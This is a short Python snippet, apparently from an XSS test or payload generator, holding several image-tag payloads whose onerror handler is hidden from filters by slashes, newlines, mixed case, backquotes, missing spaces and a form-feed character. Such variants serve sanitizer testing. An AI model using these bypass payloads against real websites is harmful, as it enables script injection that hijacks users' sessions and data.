"""Handlers behind slashes, newlines, backquotes, no blanks."""

html(f"""<img/src=`x`/onerror={JS}><img
src=x
OnErRoR
=
{JS}><img src='x'onerror={JS}><img src=x\x0conerror={JS}>""")
